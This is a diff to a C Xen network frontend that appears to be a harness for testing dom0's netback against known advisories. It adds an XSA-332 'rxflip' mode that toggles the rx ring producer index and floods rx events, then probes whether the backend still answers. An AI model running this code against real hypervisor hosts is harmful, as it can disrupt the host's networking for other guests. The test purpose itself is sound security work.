@@ -59,6 +59,17 @@
  *             valid data grant), req_prod random within the ring or
  *             beyond it; then up to 4 probes, step "judge" (dom0 looks at
  *             the vif's carrier); RESULT prod= answered= probe= tries=
+ *   rxflip    (XSA-332) connect, step "connected" (dom0 queues a frame
+ *             that needs two receive slots), then for at most FLIP_MAX
+ *             flips or FLIP_SECS seconds set rx req_prod to one past the
+ *             last posted request and back, with an rx event each time,
+ *             never posting more; step "flipped" (dom0 reads the event
+ *             counters); then 32 real buffers, kept posted, and the
+ *             probe.  RESULT flips= ms= rsp= (responses during the
+ *             flips) rx= (responses after) big= (frames of more than
+ *             one slot) probe=
+ *   rxflip-split  the same with split event channels (event-channel-tx,
+ *             -rx), flipping on the rx one
  * Exit status: 0 after a report, 2 if it could not connect.
  */
 #define _GNU_SOURCE
@@ -114,9 +125,11 @@ static xen_netif_ctrl_front_ring_t ctrl;
 static int evfd;
 static unsigned int port, ctrl_port;
 static int want_ctrl, want_mcast;	/* connect with a control ring, filter */
+static int want_split;			/* separate tx and rx event channels */
+static unsigned int rx_port;		/* the rx one, if want_split */
 static uint16_t rx_buf[__CONST_RING_SIZE(netif_rx, PAGE)];	/* buffer of each rx slot */
 static int rx_repost;			/* give consumed buffers back */
-static unsigned long rx_seen, rx_g1, rx_g2, rx_bcast;
+static unsigned long rx_seen, rx_g1, rx_g2, rx_bcast, rx_big;
 static const uint8_t group1[6] = { 0x03, 0x99, 0, 0, 0, 0x01 };
 static const uint8_t group2[6] = { 0x03, 0x99, 0, 0, 0, 0x02 };
 
@@ -302,9 +315,22 @@ static void connect_backend(void)
 	fe_state(XenbusStateInitialising);
 	if (wait_be(XenbusStateInitWait, XenbusStateInitWait, 10))
 		die("backend never reached InitWait");
+	if (want_split) {
+		struct ioctl_evtchn_bind_unbound_port bind = { .remote_domain = 0 };
+		int r = ioctl(evfd, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &bind);
+
+		if (r < 0)
+			die("IOCTL_EVTCHN_BIND_UNBOUND_PORT (rx)");
+		rx_port = r;
+		xs_rm(fe, "event-channel");
+		if (xs_writef(fe, "event-channel-tx", "%u", port) ||
+		    xs_writef(fe, "event-channel-rx", "%u", rx_port))
+			die("write split event channels");
+	} else if (xs_writef(fe, "event-channel", "%u", port)) {
+		die("write event-channel");
+	}
 	if (xs_writef(fe, "tx-ring-ref", "%u", refs[0]) ||
 	    xs_writef(fe, "rx-ring-ref", "%u", refs[1]) ||
-	    xs_writef(fe, "event-channel", "%u", port) ||
 	    xs_writef(fe, "request-rx-copy", "1") ||
 	    xs_writef(fe, "feature-rx-notify", "1") ||
 	    xs_writef(fe, "feature-sg", "1") ||
@@ -335,6 +361,15 @@ static void kick(void)
 
 	if (ioctl(evfd, IOCTL_EVTCHN_NOTIFY, &n))
 		die("IOCTL_EVTCHN_NOTIFY");
+}
+
+/* kick_rx: an event for the receive ring, on its own channel if split. */
+static void kick_rx(void)
+{
+	struct ioctl_evtchn_notify n = { .port = want_split ? rx_port : port };
+
+	if (ioctl(evfd, IOCTL_EVTCHN_NOTIFY, &n))
+		die("IOCTL_EVTCHN_NOTIFY (rx)");
 }
 
 /* ---- requests ---- */
@@ -536,7 +571,7 @@ static void rx_post(unsigned int n)
 		rx.req_prod_pvt++;
 	}
 	RING_PUSH_REQUESTS(&rx);
-	kick();
+	kick_rx();
 }
 
 /*
@@ -567,6 +602,8 @@ static void rx_drain(void)
 		if (!in_frame && r->status >= 6 && r->offset < PAGE - 6) {
 			const uint8_t *d = mem + (PG_RX + b) * PAGE + r->offset;
 
+			if (r->flags & NETRXF_more_data)
+				rx_big++;
 			if (!memcmp(d, group1, 6))
 				rx_g1++;
 			else if (!memcmp(d, group2, 6))
@@ -725,6 +762,50 @@ static int mcast_req(uint8_t type, const uint8_t *addr)
 	return st[0] == '-' ? 999 : atoi(st);
 }
 
+/* ---- rx req_prod back and forth (XSA-332) ---- */
+
+#define FLIP_MAX	2000
+#define FLIP_SECS	4
+
+static double now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+/*
+ * rx_flip: req_prod to base + 1 and back to base, an rx event after each
+ * write, about one a millisecond (a backend that keeps up sees each); the
+ * number of flips and the milliseconds they took.
+ */
+static unsigned int rx_flip(unsigned int *ms)
+{
+	RING_IDX base = rx.req_prod_pvt;
+	netif_rx_request_t *r = RING_GET_REQUEST(&rx, base);
+	unsigned int n;
+	double t0;
+
+	/*
+	 * Not posted, but should the backend take the slot anyway, its copy
+	 * lands in a buffer of ours, not wherever grant 0 points.
+	 */
+	r->id = 0;
+	r->gref = refs[PG_RX];
+	rx_buf[base % RING_SIZE(&rx)] = 0;
+	xen_wmb();
+	t0 = now();
+	for (n = 0; n < FLIP_MAX && now() - t0 < FLIP_SECS; n++) {
+		rx.sring->req_prod = base + !(n & 1);
+		kick_rx();
+		usleep(1000);
+	}
+	rx.sring->req_prod = base;
+	*ms = (now() - t0) * 1000;
+	return n;
+}
+
 /* ---- garbage on the tx ring (XSA-39) ---- */
 
 static RING_IDX garbage(unsigned int seed, unsigned int *answered)
@@ -829,6 +910,27 @@ static int stepped(int argc, char **argv)
 		linger(3);
 		printf("RESULT attack=mcast add=%d del=%d g1=%lu g2=%lu g1del=%lu g2del=%lu bcast=%lu\n",
 		       add, del, g1, g2, rx_g1 - g1, rx_g2 - g2, rx_bcast);
+	} else if (!strcmp(a, "rxflip") || !strcmp(a, "rxflip-split")) {
+		unsigned int flips, ms, rsp;
+
+		want_split = !strcmp(a, "rxflip-split");
+		connect_backend();
+		step("connected");
+		flips = rx_flip(&ms);
+		rsp = rx.sring->rsp_prod - rx.rsp_cons;
+		step("flipped");
+		rx_repost = 1;
+		rx_seen = 0;
+		rx_post(NRXBUF);
+		linger(3);
+		from = tx.req_prod_pvt;
+		probe();
+		RING_PUSH_REQUESTS(&tx);
+		kick();
+		collect(from, from + 1, 3, pr, sizeof(pr));
+		printf("RESULT attack=%s flips=%u ms=%u rsp=%u rx=%lu big=%lu probe=%s\n",
+		       a, flips, ms, rsp, rx_seen, rx_big,
+		       pr[0] == '-' ? "none" : atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error");
 	} else if (!strcmp(a, "garbage") && argc == 4) {
 		unsigned int answered, tries;
 		RING_IDX prod;
